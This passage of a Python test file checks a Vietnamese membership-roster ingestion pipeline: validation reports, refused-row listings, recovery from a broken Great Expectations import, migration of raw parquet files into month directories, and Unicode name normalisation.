    assert [r.counts_by_rule for r in reps] == [{"future_date": 1}, {}]
    for r in reps:
        g = json.loads(Path(r.json_report).read_text(encoding="utf-8"))["gx"]
        assert (g["mode"], g["ran"], g["files_pooled"]) == ("batch", True, 2)
        fut = [e for e in g["expectations"] if e["rule"] == "future_date" and e["column"] == "v_join_date_ymd"]
        assert fut[0]["unexpected_count"] == 1  # each row judged against its own file's date


def test_large_file_report_lists_refused_rows_only(root, tmp_path, monkeypatch):
    import openpyxl

    import pipelines.ingest.engine as engine
    monkeypatch.setattr(engine, "REPORT_FULL_ROWS", 3)
    rows = [member(i) for i in range(5)]
    rows[3]["Số CMND/CCCD"] = "=1+1"
    rep = ingest(write_xlsx(tmp_path / "big.xlsx", rows))
    wb = openpyxl.load_workbook(rep.xlsx_report)
    main, summary = wb["Kết quả"], wb["Tóm tắt"]
    assert main.max_row == 2 and main.cell(row=2, column=1).value == 10  # Excel row of the refused member
    assert main.cell(row=2, column=main.max_column).value.endswith("[cccd_layout]")
    assert any("chỉ liệt kê các dòng bị từ chối" in str(c.value) for c in summary["B"])


def test_gx_import_survives_a_broken_partial_import_and_a_concurrent_prewarm():
    """A GX import half done by another thread used to leave every later import in the process failing (the
    pooled GX run then reported ran=False in the full suite). rules.import_gx takes one lock, and clears a broken
    import and retries. Run in a fresh interpreter so this process's modules stay untouched."""
    import subprocess
    import sys

    code = (
        "import sys, types\n"
        "from pipelines.ingest import rules, batch\n"
        "sys.modules['great_expectations'] = types.ModuleType('great_expectations')  # a broken partial import\n"
        "gx = rules.import_gx()\n"
        "assert hasattr(gx, 'ExpectationSuite'), 'still the broken module'\n"
        "rules._PREWARM.clear(); del sys.modules['great_expectations']\n"
        "rules.prewarm_gx(); batch._import_gx()  # a background prewarm and the batch's import at once\n"
        "import polars as pl\n"
        "res = rules.run_gx(pl.DataFrame({'x': [1]}), 'roster', {'today_ymd': 20250101}, mode='full')\n"
        "print(res['ran'], res.get('reason'))\n"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300,
                         env={**os.environ, "DOANVIEN_INGEST_GX": "sample"}, cwd=str(Path(__file__).resolve().parents[2]))
    assert out.returncode == 0, out.stderr[-2000:]
    assert out.stdout.strip().startswith("True"), out.stdout


def test_raw_rows_sit_in_their_month_directory_and_a_flat_raw_zone_moves_there(root, tmp_path):
    """Accepted rows are written to raw/<kind>/file_month=<YYYY-MM>/<file_id>.parquet (the month the file declares);
    a raw zone an older version wrote flat (raw/<kind>/<file_id>.parquet) is moved there by migrate_raw_layout,
    content untouched, once."""
    from pipelines.ingest.engine import migrate_raw_layout

    march = ingest(write_xlsx(tmp_path / "m.xlsx", [member(i) for i in range(4)]))
    april = ingest(write_xlsx(tmp_path / "a.xlsx", [member(i) for i in range(3)], title=False), period="2025-02")
    assert Path(march.raw_path) == root / "raw" / "roster" / "file_month=2025-03" / f"{march.file_id}.parquet"
    assert april.status == "accepted", april.message_vi
    assert Path(april.raw_path) == root / "raw" / "roster" / "file_month=2025-02" / f"{april.file_id}.parquet"
    before = {r.file_id: pl.read_parquet(r.raw_path) for r in (march, april)}
    assert migrate_raw_layout() == 0  # nothing flat
    for r in (march, april):  # the layout of earlier versions
        os.replace(r.raw_path, root / "raw" / "roster" / f"{r.file_id}.parquet")
        Path(r.raw_path).parent.rmdir()
    assert migrate_raw_layout() == 2
    assert not list((root / "raw" / "roster").glob("*.parquet"))
    for r in (march, april):
        assert pl.read_parquet(r.raw_path).equals(before[r.file_id])
    assert migrate_raw_layout() == 0


def test_a_flat_rows_file_with_no_month_is_kept_aside_not_lost(root):
    """A flat rows file with no row and no ledger row (its month cannot be told) goes to raw/<kind>/unplaced/:
    kept, not read by the warehouse, and never into the schema template's directory."""
    from pipelines.ingest.engine import RAW_SCHEMA, migrate_raw_layout, raw_schema_template_path

    orphan = root / "raw" / "roster" / "0123456789abcdef.parquet"
    orphan.parent.mkdir(parents=True, exist_ok=True)
    pl.DataFrame(schema=RAW_SCHEMA["roster"]).write_parquet(orphan)
    assert migrate_raw_layout() == 1
    assert (root / "raw" / "roster" / "unplaced" / orphan.name).exists() and not orphan.exists()
    template_dir = raw_schema_template_path("roster").parent
    assert sorted(p.name for p in template_dir.iterdir()) == ["_schema.parquet"]


def test_names_are_stored_nfc_trimmed_single_spaced(root, tmp_path):
    """The raw zone's names are NFC, trimmed and single-spaced whatever the office typed (decomposed accents,
    non-breaking and doubled spaces): the warehouse relies on it (int_roster_rows_monthly takes name_key as
    lower(full_name), and identity resolution matches CMND records to CCCD people on it)."""
    import unicodedata

    messy = ["  Nguyễn   Thị\u00a0Hoà ", unicodedata.normalize("NFD", "Trần Văn Bình"), "Lê\tVăn \u200bCường",
             "Phạm Thu Dung"]
    rows = [member(i, **{"Họ và tên": name}) for i, name in enumerate(messy)]
    rep = ingest(write_xlsx(tmp_path / "names.xlsx", rows))
    assert rep.status == "accepted" and rep.rows_accepted == 4, rep.message_vi
    names = pl.read_parquet(rep.raw_path).sort("source_row")["full_name"].to_list()
    assert names == ["Nguyễn Thị Hòa", "Trần Văn Bình", "Lê Văn Cường", "Phạm Thu Dung"]  # one tone-mark style too
    assert all(n == unicodedata.normalize("NFC", n) for n in names)
